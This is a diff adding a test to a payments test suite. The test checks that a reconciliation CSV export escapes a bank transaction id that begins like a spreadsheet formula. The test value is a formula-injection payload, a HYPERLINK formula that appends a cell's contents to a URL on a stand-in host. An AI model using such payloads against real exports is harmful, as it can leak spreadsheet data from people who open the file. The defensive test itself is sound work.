@@ -399,6 +399,27 @@ describeEachDriver('payments', (ctx) => {
     assert.equal(await paidAt('receipts', '2027-01-02T03:00:00Z'), 'BL-2027-000002');
   });
 
+  it('shows a bank transaction id that starts like a formula as text in the CSV', async () => {
+    const tenant = 'recon-formula';
+    const clock = { now: new Date('2026-12-07T03:00:00Z') };
+    const service = serviceAt(clock);
+    const id = '=HYPERLINK("https://x.example/?"&A1,"Xem")';
+    const confirmed = await service.confirm(
+      tenant,
+      {
+        transactionId: id,
+        reference: 'TLZZZZZZZZZZ',
+        amountVnd: 75_000,
+        paidAt: clock.now.toISOString(),
+        accountNumber: DEMO_PAYEE.account,
+      },
+      '{}',
+    );
+    assert.equal(confirmed.outcome, 'unmatched');
+    const csv = reconciliationCsv(await service.reconciliation(tenant, '2026-12-07', '2026-12-07'));
+    assert.match(csv, /\r\n2026-12-07,0,0,0,0,0,1,"'=HYPERLINK\(""https:\/\/x\.example\/\?""&A1,""Xem""\)",0,,0,\r\n$/);
+  });
+
   it('reconciles day by day in Hà Nội time, the figures exact, as JSON and CSV', async () => {
     const tenant = 'recon';
     const clock = { now: new Date('2026-12-06T18:00:00Z') }; // 7 Dec 01:00 in Hà Nội
